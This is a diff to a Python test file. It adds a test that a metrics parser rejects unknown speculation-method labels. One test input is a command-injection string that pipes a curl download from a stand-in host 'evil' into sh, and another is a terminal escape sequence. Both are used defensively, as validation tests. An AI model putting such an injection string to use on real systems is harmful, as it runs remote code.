@@ -373,6 +373,12 @@ def test_a_page_cannot_make_a_reading_as_large_as_it_likes() -> None:
     assert reading_of(long, 0.0).model is None
 
 
+@pytest.mark.parametrize("said", ["ngram`; curl evil|sh #", r"\x1b[2Jngram", "", "new", "ngram "])
+def test_a_method_that_is_none_of_ours_is_not_known(said: str) -> None:
+    page = f'outdraft:speculation_method{{method="{said}"}} 1.0\n'
+    assert reading_of(page, 0.0).method is None
+
+
 def test_a_server_of_ours_says_how_it_proposes() -> None:
     page = 'outdraft:speculation_method{model_name="m",engine="0",method="auto"} 1.0\n'
     assert reading_of(page, 0.0).method == "auto"
